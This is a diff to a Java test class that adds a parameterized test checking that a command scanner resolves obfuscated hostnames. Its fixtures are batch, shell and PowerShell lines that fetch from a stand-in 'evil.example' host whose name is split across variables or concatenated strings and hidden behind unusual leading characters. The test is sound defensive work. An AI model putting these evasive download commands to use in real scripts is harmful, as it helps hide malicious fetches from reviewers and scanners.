@@ -56,6 +56,21 @@ class CommandsTest {
         }
     }
 
+    /// U+FFFF is also what the reader sees behind the end.
+    @ParameterizedTest
+    @ValueSource(strings = {"bat", "sh", "ps1"})
+    void constantAfterAnyCharacter_isResolved(String ending) {
+        String use = ending.equals("bat")
+                ? "set a=evil.exa\ncurl https://%a%mple/x\n"
+                : ending.equals("sh")
+                        ? "a=evil.exa\ncurl https://${a}mple/x\n"
+                        : "iwr ('https://evil.exa' + 'mple/x')\n";
+        for (int c = 0xfff0; c <= 0xffff; c++) {
+            String script = "\ufeff" + (char) c + "\n" + use;
+            assertTrue(attached("a." + ending, script.getBytes(UTF_16LE)).holds("evil.example"), "" + c);
+        }
+    }
+
     /// One step of hiding a command in a batch file.
     private static String hideInBatch(String command, Random random) {
         int half = 1 + random.nextInt(command.length() - 1);
